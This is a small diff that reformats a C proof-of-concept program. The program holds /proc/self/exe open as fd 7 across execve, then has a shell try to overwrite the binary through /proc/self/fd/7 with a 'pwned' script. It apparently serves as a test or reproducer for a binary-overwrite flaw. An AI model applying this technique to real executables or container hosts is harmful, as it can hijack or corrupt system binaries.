@@ -10,7 +10,7 @@
 
 int main(void)
 {
-	char target[512] = { 0 };
+	char target[512] = {0};
 	int fd = open("/proc/self/exe", O_PATH); /* survives execve */
 	if (fd < 0 || dup2(fd, 7) < 0)
 		return perror("/proc/self/exe"), 2;
@@ -18,7 +18,8 @@ int main(void)
 		printf("holding %s as fd 7\n", target);
 	fflush(stdout);
 	execl("/bin/sh", "sh", "-c",
-	      "printf '#!/bin/sh\\necho pwned\\n' >/proc/self/fd/7 && echo 'OVERWROTE the binary'", (char *)NULL);
+	      "printf '#!/bin/sh\\necho pwned\\n' >/proc/self/fd/7 && echo 'OVERWROTE the binary'",
+	      (char *)NULL);
 	perror("execl");
 	return 2;
 }
